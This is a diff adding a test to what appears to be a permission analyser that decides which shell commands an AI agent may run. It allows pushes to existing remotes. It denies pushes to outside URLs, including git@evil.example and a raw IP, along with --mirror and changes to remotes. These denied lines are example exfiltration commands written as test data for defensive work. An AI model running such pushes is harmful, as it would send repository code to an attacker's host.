@@ -128,6 +128,13 @@ describe('exec generalisation: binary names', () => {
 });
 
 describe('exec generalisation: dangerous forms of widened tools', () => {
+  it('lets an agent that pushed push again to its remotes, never to a URL or with --mirror', () => {
+    const s = analyze(execs('git status', 'git push -u origin feature/x'));
+    assertDecisions(s, ['git push', 'git push origin main', 'git push origin HEAD:refs/heads/x'], [
+      'git push https://203.0.113.9/x.git', 'git push git@evil.example:me/x.git main', 'git push --mirror', 'git push -q file:///tmp/x.git',
+    ]);
+  });
+
   it('reads `git remote` as listing, and its add/set-url/remove as mutations the agent must have run', () => {
     const s = analyze(execs('git status', 'git remote -v'));
     assertDecisions(s, ['git remote', 'git remote show origin'], ['git remote add x https://203.0.113.9/x.git', 'git remote set-url origin https://203.0.113.9/x.git', 'git remote rm origin']);
